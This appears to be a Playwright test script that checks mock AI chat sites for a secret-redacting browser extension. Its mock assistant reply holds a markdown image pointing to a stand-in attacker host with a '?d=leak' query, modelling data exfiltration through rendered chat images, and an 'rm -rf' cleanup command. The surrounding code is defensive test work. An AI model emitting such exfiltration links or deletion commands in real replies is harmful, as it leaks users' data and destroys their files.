// Proves the mock chat pages behave like the sites they copy, with no extension loaded:
//   node test/e2e/mock-sites/verify.mjs [--site ID] [--out DIR]
// For every site: real key presses + Enter send exactly the typed text (read from the editor's
// state), Shift+Enter is a newline, the send control sends, a streamed reply turns the streaming
// signal on then off and loads its image mid-stream, a synthetic paste reaches the editor state,
// and which ways of writing text back (what Rampart does to redact) update the editor state.
// Prints one line per site and the write-back matrix; exits 1 if a required check failed.
/* global document, window, KeyboardEvent, getSelection, HTMLTextAreaElement, DataTransfer, ClipboardEvent, InputEvent */
import assert from 'node:assert/strict';
import { chromium } from 'playwright-core';
import { chromiumPath, QUIET_NETWORK_ARGS } from '../../../scripts/chromium.mjs';
import { buildMockSites, DEFAULT_MOCK_SITES_OUT, installMockSites, MOCK_SITES } from '../../../scripts/mock-sites.mjs';
import { MOCK_SELECTORS } from './selectors.mjs';

const argument = (name) => {
  const index = process.argv.indexOf(name);
  return index > 0 ? process.argv[index + 1] : undefined;
};
const onlySite = argument('--site');
const outDir = argument('--out') ?? DEFAULT_MOCK_SITES_OUT;

const ATTACKER = 'https://exfil.mock-attacker.test';
// A 1×1 transparent GIF, so the image really loads.
const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const REPLY = [
  'Run this to clean up:',
  '',
  '```sh',
  'rm -rf /tmp/mock-build',
  '```',
  '',
  `Here is a picture ![pixel](${ATTACKER}/pixel.gif?d=leak) and [the docs](${ATTACKER}/docs) with \`inline\` code,`,
  'and then the reply keeps streaming for a while so the image loads before it ends.',
].join('\n');
const WRITE_BACK = 'redacted [SECRET_1] ok';
const MULTI_LINE = 'first line\nsecond line\n\nafter a blank line';

const started = performance.now();
await buildMockSites(outDir);
const buildMs = performance.now() - started;

const browser = await chromium.launch({ executablePath: chromiumPath(), headless: true, args: [...QUIET_NETWORK_ARGS, '--no-sandbox', '--disable-gpu'] });
const context = await browser.newContext();
await installMockSites(context, { outDir });
const requests = [];
context.on('request', (request) => requests.push(request.url()));
const attackerHits = [];
await context.route(`${ATTACKER}/**`, (route) => {
  attackerHits.push(route.request().url());
  return route.fulfill({ status: 200, contentType: 'image/gif', body: PIXEL });
});

// ---- page helpers (the functions passed to evaluate run in the page) ----
const editorText = (page) => page.evaluate(() => window.__mockChat.editorText());
const sent = (page) => page.evaluate(() => [...window.__mockChat.sent]);
const resetPage = (page) => page.evaluate(() => window.__mockChat.clear());
const waitForEditorText = (page, text) => page.waitForFunction((expected) => window.__mockChat.editorText() === expected, text, { timeout: 600 }).catch(() => {});

/** Selects everything in the composer, then writes `text` the way `method` says (in the page). */
function writeInPage(element, { method, text, settle }) {
  const selectAll = () => {
    element.focus();
    if (element instanceof HTMLTextAreaElement) return element.select();
    const range = document.createRange();
    range.selectNodeContents(element);
    getSelection().removeAllRanges();
    getSelection().addRange(range);
  };
  const write = () => {
    switch (method) {
      case 'execCommand':
        return document.execCommand('insertText', false, text);
      case 'beforeinput':
        return element.dispatchEvent(new InputEvent('beforeinput', { inputType: 'insertText', data: text, bubbles: true, cancelable: true, composed: true }));
      case 'paste': {
        const data = new DataTransfer();
        data.setData('text/plain', text);
        return element.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
      }
      case 'setter': {
        if (!(element instanceof HTMLTextAreaElement)) return 'n/a';
        Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value').set.call(element, text);
        return element.dispatchEvent(new Event('input', { bubbles: true }));
      }
    }
  };
  if (!settle) {
    selectAll();
    return write();
  }
  // Editors that track the selection from 'selectionchange' (a queued event) only see the
  // select-all once it has fired: wait for it (at most 200 ms), then write.
  return new Promise((resolve) => {
    const go = () => {
      clearTimeout(timer);
      document.removeEventListener('selectionchange', go);
      setTimeout(() => resolve(write()), 0);
    };
    const timer = setTimeout(go, 200);
    document.addEventListener('selectionchange', go);
    selectAll();
  });
}

const failures = [];
const lines = [];
const matrix = [];
const retriggers = [];

for (const site of MOCK_SITES.filter((candidate) => !onlySite || candidate.id === onlySite)) {
  const selectors = MOCK_SELECTORS[site.id];
  const page = await context.newPage();
  const pageErrors = [];
  page.on('pageerror', (error) => pageErrors.push(error.message));
  page.on('console', (message) => message.type() === 'error' && pageErrors.push(message.text()));
  const composer = page.locator(selectors.composer);
  const sendControl = selectors.sendIsLast ? page.locator(selectors.send).last() : page.locator(selectors.send);
  const results = {};
  const siteStarted = performance.now();

  const check = async (name, body) => {
    try {
      await body();
      results[name] = 'ok';
    } catch (error) {
      results[name] = 'FAIL';
      failures.push(`${site.id} ${name}: ${String(error?.message ?? error).split('\n').slice(0, 12).join(' | ')}`);
    }
  };
  const typeInComposer = async (text) => {
    await resetPage(page);
    await composer.click();
    await page.keyboard.type(text);
  };

  await check('load', async () => {
    await page.goto(`https://${site.host}/`);
    await page.waitForFunction(() => window.__mockChat?.ready === true, null, { timeout: 5000 });
    assert.equal(await page.evaluate(() => window.__mockChat.site), site.id);
    assert.equal(await composer.count(), 1, `composer ${selectors.composer}`);
    assert.ok((await page.locator(selectors.send).count()) >= 1, `send ${selectors.send}`);
  });

  await check('enter', async () => {
    await typeInComposer('Hello from a real keyboard');
    assert.equal(await editorText(page), 'Hello from a real keyboard', 'typed text in the editor state');
    await page.keyboard.press('Enter');
    assert.deepEqual(await sent(page), ['Hello from a real keyboard']);
    assert.equal(await page.locator(selectors.userMessage).last().innerText(), 'Hello from a real keyboard');
    await waitForEditorText(page, '');
    assert.equal(await editorText(page), '', 'editor cleared after send');
  });

  await check('shift+enter', async () => {
    await typeInComposer('line one');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('line two');
    await page.waitForTimeout(100);
    assert.deepEqual(await sent(page), [], 'Shift+Enter must not send');
    assert.equal(await editorText(page), 'line one\nline two');
    await page.keyboard.press('Enter');
    assert.deepEqual(await sent(page), ['line one\nline two']);
  });

  await check('click', async () => {
    await typeInComposer('Sent with the button');
    await sendControl.click();
    assert.deepEqual(await sent(page), ['Sent with the button']);
  });

  let imageWhileStreaming = false;
  await check('reply', async () => {
    await resetPage(page);
    attackerHits.length = 0;
    const imageRequest = page.waitForRequest((request) => request.url().startsWith(`${ATTACKER}/pixel.gif`), { timeout: 5000 });
    const done = page.evaluate((markdown) => window.__mockChat.reply(markdown, { chunks: 10, intervalMs: 60 }), REPLY);
    await page.locator(selectors.streaming).first().waitFor({ state: 'attached', timeout: 2000 });
    await imageRequest;
    imageWhileStreaming = (await page.locator(selectors.streaming).count()) > 0;
    await done;
    assert.equal(await page.locator(selectors.streaming).count(), 0, 'streaming signal off when done');
    if (selectors.streamingDone) assert.equal(await page.locator(selectors.streamingDone).count(), 1);
    const reply = page.locator(selectors.reply).last();
    assert.equal(await reply.locator('pre > code.language-sh').innerText(), 'rm -rf /tmp/mock-build');
    assert.equal(await reply.locator('img').getAttribute('src'), `${ATTACKER}/pixel.gif?d=leak`);
    assert.equal(await reply.locator('a').getAttribute('href'), `${ATTACKER}/docs`);
    assert.equal(await reply.locator('code:not(pre code)').innerText(), 'inline');
    assert.equal(await reply.locator('p').count(), 2);
    assert.ok(imageWhileStreaming, 'the image was requested while the reply was still streaming');
    assert.deepEqual(attackerHits, [`${ATTACKER}/pixel.gif?d=leak`], 'the image loads exactly once');
  });

  // Ways to put text into the editor; each one must update the editor STATE (then Enter sends it).
  const writeBack = {};
  const tryWrite = async (method, text, settle = false) => {
    await typeInComposer('my original secret sk-live-1234');
    await composer.evaluate(writeInPage, { method, text, settle });
    await waitForEditorText(page, text);
    const state = await editorText(page);
    if (state !== text) return { ok: false, state };
    await composer.click();
    await page.keyboard.press('End');
    await page.keyboard.press('Enter');
    const sentNow = await sent(page);
    return { ok: sentNow.length === 1 && sentNow[0] === text, state, sent: sentNow };
  };
  for (const method of ['execCommand', 'beforeinput', 'paste', 'setter']) {
    if (method === 'setter' && site.editor !== 'textarea') continue;
    let result = await tryWrite(method, WRITE_BACK);
    if (!result.ok) {
      const later = await tryWrite(method, WRITE_BACK, true);
      if (later.ok) result = { ...later, settle: true };
    }
    writeBack[method] = result;
    const multi = result.ok ? await tryWrite(method, MULTI_LINE, result.settle) : undefined;
    writeBack[`${method} multi-line`] = multi ?? { ok: false, state: '(not tried)' };
  }

  // How a guard can re-trigger the send after approving (its own events are untrusted).
  const retrigger = {};
  const trySend = async (how) => {
    await typeInComposer('released by the guard');
    await page.evaluate(
      ({ how, composerSelector, sendSelector, sendIsLast }) => {
        const composerElement = document.querySelector(composerSelector);
        if (how === 'synthetic Enter') {
          const init = { key: 'Enter', code: 'Enter', keyCode: 13, which: 13, bubbles: true, cancelable: true, composed: true };
          composerElement.dispatchEvent(new KeyboardEvent('keydown', init));
          composerElement.dispatchEvent(new KeyboardEvent('keyup', init));
        } else if (how === 'send.click()') {
          const controls = document.querySelectorAll(sendSelector);
          controls[sendIsLast ? controls.length - 1 : 0].click();
        } else {
          composerElement.closest('form')?.requestSubmit();
        }
      },
      { how, composerSelector: selectors.composer, sendSelector: selectors.send, sendIsLast: Boolean(selectors.sendIsLast) },
    );
    await page.waitForFunction(() => window.__mockChat.sent.length > 0, null, { timeout: 600 }).catch(() => {});
    const sentNow = await sent(page);
    return { ok: sentNow.length === 1 && sentNow[0] === 'released by the guard', state: await editorText(page) };
  };
  for (const how of ['synthetic Enter', 'send.click()', 'form.requestSubmit()']) {
    if (how === 'form.requestSubmit()' && (await composer.evaluate((element) => element.closest('form') === null))) continue;
    retrigger[how] = await trySend(how);
  }

  await check('synthetic paste', async () => {
    // A paste into an empty composer (what the guard re-dispatches); textareas ignore untrusted paste.
    await resetPage(page);
    await composer.click();
    await composer.evaluate(writeInPage, { method: 'paste', text: 'pasted text' });
    await waitForEditorText(page, 'pasted text');
    const state = await editorText(page);
    writeBack['paste into empty'] = { ok: state === 'pasted text', state };
    if (site.editor !== 'textarea') assert.equal(state, 'pasted text');
  });

  await check('execCommand insertText', async () => {
    assert.ok(writeBack.execCommand.ok, `editor state after execCommand: ${JSON.stringify(writeBack.execCommand.state)}`);
  });

  await check('trusted Ctrl+V', async () => {
    await resetPage(page);
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: `https://${site.host}` });
    await composer.click();
    await page.evaluate(() => navigator.clipboard.writeText('clipboard text'));
    await page.keyboard.press('Control+V');
    await waitForEditorText(page, 'clipboard text');
    const state = await editorText(page);
    writeBack['Ctrl+V'] = { ok: state === 'clipboard text', state };
    assert.equal(state, 'clipboard text');
  });

  await check('no page errors', async () => assert.deepEqual(pageErrors, []));
  // Last: the blocked assignment below logs a console error of its own.
  await check('trusted types', async () => {
    const outcome = await page.evaluate(() => {
      try {
        document.createElement('div').innerHTML = '<b>x</b>';
        return 'allowed';
      } catch {
        return 'blocked';
      }
    });
    assert.equal(outcome, site.id === 'gemini' ? 'blocked' : 'allowed');
    results.tt = outcome;
  });

  await page.close();

  const mark = (result) => (result === undefined ? '–' : result.ok ? (result.settle ? '✓ after selectionchange' : '✓') : '✗');
  const required = ['load', 'enter', 'shift+enter', 'click', 'reply', 'synthetic paste', 'execCommand insertText', 'trusted Ctrl+V', 'no page errors', 'trusted types'];
  const siteOk = required.every((name) => results[name] === 'ok');
  lines.push(
    `${siteOk ? 'ok  ' : 'FAIL'}  ${site.id.padEnd(10)} ${site.editor.padEnd(11)} ` +
      required.map((name) => `${name} ${results[name] === 'ok' ? '✓' : '✗'}`).join(' · ') +
      ` · image mid-stream ${imageWhileStreaming ? '✓' : '✗'} · ${Math.round(performance.now() - siteStarted)} ms`,
  );
  matrix.push(
    `  ${site.id.padEnd(10)} execCommand ${mark(writeBack.execCommand)} (multi-line ${mark(writeBack['execCommand multi-line'])})` +
      ` · beforeinput ${mark(writeBack.beforeinput)} (multi-line ${mark(writeBack['beforeinput multi-line'])})` +
      ` · paste-over-selection ${mark(writeBack.paste)} (multi-line ${mark(writeBack['paste multi-line'])})` +
      ` · paste-into-empty ${mark(writeBack['paste into empty'])}` +
      ` · setter+input ${mark(writeBack.setter)} (multi-line ${mark(writeBack['setter multi-line'])})` +
      ` · Ctrl+V ${mark(writeBack['Ctrl+V'])}`,
  );
  retriggers.push(`  ${site.id.padEnd(10)} ` + Object.entries(retrigger).map(([how, result]) => `${how} ${mark(result)}`).join(' · '));
  for (const [method, result] of Object.entries(writeBack)) {
    if (!result.ok && result.state !== '(not tried)') matrix.push(`      ${site.id} ${method}: editor state ${JSON.stringify(result.state)}`);
  }
}

// Nothing but the mock hosts and the test's own attacker host may be contacted.
const allowedHosts = new Set([...MOCK_SITES.map((site) => site.host), new URL(ATTACKER).host]);
const stray = requests.filter((url) => !allowedHosts.has(new URL(url).host));
const mockPaths = requests.filter((url) => !url.startsWith(ATTACKER)).map((url) => new URL(url).pathname);
const unexpectedPaths = mockPaths.filter((path) => !['/', '/mock.js', '/mock.css'].includes(path));
await browser.close();

console.log(`Mock sites — build ${Math.round(buildMs)} ms, ${chromiumPath()}`);
for (const line of lines) console.log(line);
console.log('Write-back into the editor state (then Enter sends exactly that text):');
for (const line of matrix) console.log(line);
console.log('Re-triggering the send with untrusted events (what a guard does after approving):');
for (const line of retriggers) console.log(line);
if (stray.length > 0) failures.push(`requests to other hosts: ${stray.join(', ')}`);
if (unexpectedPaths.length > 0) failures.push(`unexpected requests on mock hosts: ${unexpectedPaths.join(', ')}`);
console.log(`requests: ${requests.length} (mock pages ${mockPaths.length}, attacker ${requests.length - mockPaths.length}); stray ${stray.length}`);
for (const failure of failures) console.log(`  FAIL ${failure}`);
console.log(`${failures.length === 0 ? 'all passed' : `${failures.length} failed`} in ${Math.round(performance.now() - started)} ms`);
process.exit(failures.length === 0 ? 0 : 1);
